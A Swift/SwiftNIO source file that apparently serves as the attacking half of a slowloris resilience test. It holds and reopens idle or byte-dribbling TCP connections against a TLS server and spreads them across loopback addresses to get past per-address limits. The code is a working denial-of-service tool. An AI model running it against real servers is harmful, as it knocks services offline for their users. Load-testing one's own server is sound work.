import NIOCore
import NIOPosix

/// The attack side of `slowloris`: plain TCP connections that never start a TLS
/// handshake, a few of them dribbling a TLS record header one byte a second. Each one the
/// server closes is reopened at once, so the crowd keeps its size for as long as it runs.
///
/// Connections come from 127.0.0.2, 127.0.0.3, ... (`perAddress` each) when the server
/// is on loopback, as a real attack comes from many hosts; from one address the server's
/// per-address cap would refuse all but a few and the figure would say nothing.
final class SlowlorisCrowd: Sendable {
    private let host: String
    private let port: Int
    private let group: EventLoopGroup
    private let perAddress: Int
    private let stopped = Counter()

    /// Connections open now.
    let held = Counter()
    /// Connections the server closed (its handshake timeout at work), silent and dribbling.
    let closedSilent = Counter()
    let closedDribbling = Counter()
    /// Connects that failed.
    let connectFailures = Counter()

    init(host: String, port: Int, group: EventLoopGroup, perAddress: Int) {
        self.host = host
        self.port = port
        self.group = group
        self.perAddress = perAddress
    }

    /// Whether source addresses can be spread (see `LoopbackSources`).
    var spreadsAddresses: Bool { LoopbackSources.canSpread(toward: host) }

    /// Opens `silent` quiet connections and `dribbling` slow ones (not waiting for them).
    func start(silent: Int, dribbling: Int) {
        for index in 0..<(silent + dribbling) {
            open(index: index, dribbles: index >= silent)
        }
    }

    /// Stops reopening and closes what is open.
    func stop() {
        stopped.increment()
    }

    private var isStopped: Bool { stopped.value > 0 }

    private func open(index: Int, dribbles: Bool) {
        guard !isStopped else { return }
        var bootstrap = ClientBootstrap(group: group)
            .connectTimeout(.seconds(10))
            .channelInitializer { [self] channel in
                channel.eventLoop.makeCompletedFuture {
                    try channel.pipeline.syncOperations.addHandler(
                        HeldConnectionHandler(crowd: self, index: index, dribbles: dribbles))
                }
            }
        if spreadsAddresses, let source = try? LoopbackSources.address(for: index, perAddress: perAddress) {
            bootstrap = bootstrap.bind(to: source)
        }
        bootstrap.connect(host: host, port: port).whenComplete { [self] result in
            switch result {
            case .success:
                held.increment()
            case .failure:
                connectFailures.increment()
                // Try again shortly: the attack keeps its size.
                group.next().scheduleTask(in: .milliseconds(100)) { self.open(index: index, dribbles: dribbles) }
            }
        }
    }

    /// One held connection closed by the server: count it and open another in its place
    /// (after a moment, so a server that refuses at once is not hammered in a tight loop).
    fileprivate func closed(index: Int, dribbles: Bool) {
        held.add(-1)
        (dribbles ? closedDribbling : closedSilent).increment()
        group.next().scheduleTask(in: .milliseconds(20)) { self.open(index: index, dribbles: dribbles) }
    }

    fileprivate func shouldClose() -> Bool { isStopped }
}

/// Holds one attacking connection: says nothing (or a byte a second), and when the server
/// closes it, tells the crowd.
private final class HeldConnectionHandler: ChannelInboundHandler {
    typealias InboundIn = ByteBuffer
    typealias OutboundOut = ByteBuffer

    /// A record header that promises 512 bytes, then never enough of them.
    private static let header: [UInt8] = [0x16, 0x03, 0x01, 0x02, 0x00]

    private let crowd: SlowlorisCrowd
    private let index: Int
    private let dribbles: Bool
    private var sent = 0
    private var ticker: Scheduled<Void>?

    init(crowd: SlowlorisCrowd, index: Int, dribbles: Bool) {
        self.crowd = crowd
        self.index = index
        self.dribbles = dribbles
    }

    func channelActive(context: ChannelHandlerContext) {
        tick(context: context)
        context.fireChannelActive()
    }

    /// Once a second: close if the crowd stopped, else dribble a byte (dribblers only).
    private func tick(context: ChannelHandlerContext) {
        ticker = context.eventLoop.assumeIsolated().scheduleTask(in: .seconds(1)) { [self] in
            if crowd.shouldClose() {
                context.close(promise: nil)
                return
            }
            if dribbles {
                let byte = sent < Self.header.count ? Self.header[sent] : 0x41
                sent += 1
                context.writeAndFlush(wrapOutboundOut(ByteBuffer(bytes: [byte])), promise: nil)
            }
            tick(context: context)
        }
    }

    func channelRead(context: ChannelHandlerContext, data: NIOAny) {
        // An alert or nothing: the server has nothing to say to a socket that said nothing.
    }

    func channelInactive(context: ChannelHandlerContext) {
        ticker?.cancel()
        ticker = nil
        if crowd.shouldClose() {
            crowd.held.add(-1)
        } else {
            crowd.closed(index: index, dribbles: dribbles)
        }
        context.fireChannelInactive()
    }

    func errorCaught(context: ChannelHandlerContext, error: Error) {
        context.close(promise: nil)
    }
}
